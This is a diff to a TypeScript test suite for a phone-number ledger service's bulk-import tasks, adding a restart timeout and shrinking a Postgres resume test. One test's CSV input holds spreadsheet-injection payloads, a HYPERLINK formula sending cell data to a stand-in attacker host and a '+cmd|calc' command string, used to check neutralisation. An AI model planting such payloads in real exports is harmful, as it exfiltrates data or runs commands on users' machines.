@@ -4,6 +4,8 @@ import { join } from 'node:path';
 import { createHome, LedgerHome, parseCsv, RunningLedger, startService, StoreKind, waitForTask } from './tasks-harness';
 
 const LIMIT = 64 * 1024;
+/** Tests that restart the service: a bound for a busy machine, not a measure. */
+const RESTARTS_MS = 180_000;
 
 /**
  * Tasks stay bounded and safe (SPEC 11, docs/tasks.md): an upload over the limit is refused
@@ -26,7 +28,7 @@ export function describeTaskBounds(kind: StoreKind): void {
       home.settings.taskUploadLimitBytes = LIMIT;
       ledger = await startService(home);
       expect((await ledger.call('POST', '/v1/accounts', { body: { id: 'acme', name: 'Acme' } })).status).toBe(201);
-    });
+    }, RESTARTS_MS);
 
     afterAll(async () => {
       await ledger?.stop();
@@ -74,7 +76,7 @@ export function describeTaskBounds(kind: StoreKind): void {
       expect(done).toMatchObject({ status: 'failure', succeeded: 0 });
       expect(done.error).toMatch(/^malformed CSV after row 0/);
       expect((await ledger.call('GET', '/v1/numbers/+14155550201')).body.state).toBe('available');
-    });
+    }, RESTARTS_MS);
 
     it('neutralises output cells a spreadsheet would run as a formula, keeping E.164 numbers usable', async () => {
       const csv = ['e164,account_id,note', '+14155550301,,=1+2', '=HYPERLINK("http://evil.example/?x="&A1;"open"),,', '+14155550302,@SUM(A1:A9),-5', '-2+3,,+cmd|calc'].join('\n');
@@ -97,8 +99,8 @@ export function describeTaskBounds(kind: StoreKind): void {
 
     if (kind === 'postgres') {
       it('resumes a task on another instance whose data directory never saw the upload', async () => {
-        ledger.tasks.options.bulkChunkRows = 200;
-        const list = Array.from({ length: 1_000 }, (_, i) => `+1415556${String(i).padStart(4, '0')}`);
+        ledger.tasks.options.bulkChunkRows = 100;
+        const list = Array.from({ length: 400 }, (_, i) => `+1415556${String(i).padStart(4, '0')}`);
         const died = stopAtCheckpoint(ledger, 2);
         const r = await submit('import', ['e164,account_id', ...list.map((n) => `${n},`)].join('\n'));
         expect(r.status).toBe(202);
@@ -110,18 +112,18 @@ export function describeTaskBounds(kind: StoreKind): void {
         try {
           ledger = await startService({ ...home, dataDir: otherDir, settings: { ...home.settings, dataDir: otherDir } });
           const done = await waitForTask(ledger, r.body.id);
-          expect(done).toMatchObject({ status: 'success', total: 1_000, succeeded: 1_000, failed: 0 });
+          expect(done).toMatchObject({ status: 'success', total: 400, succeeded: 400, failed: 0 });
           const rows = await output(ledger, r.body.id);
           expect(rows[0]).toEqual(['e164', 'account_id', 'result', 'error']);
           expect(rows.slice(1).map((row) => row[0])).toEqual(list);
           expect(rows.slice(1).every((row) => row[2] === 'success')).toBe(true);
-          expect(await count(`SELECT count(*) AS n FROM ledger_events WHERE stream_id LIKE 'number-+1415556%'`)).toBe(1_000);
+          expect(await count(`SELECT count(*) AS n FROM ledger_events WHERE stream_id LIKE 'number-+1415556%'`)).toBe(400);
         } finally {
           await ledger.stop();
           rmSync(otherDir, { recursive: true, force: true });
           ledger = await startService(home); // for afterAll
         }
-      });
+      }, RESTARTS_MS);
     }
   });
 }
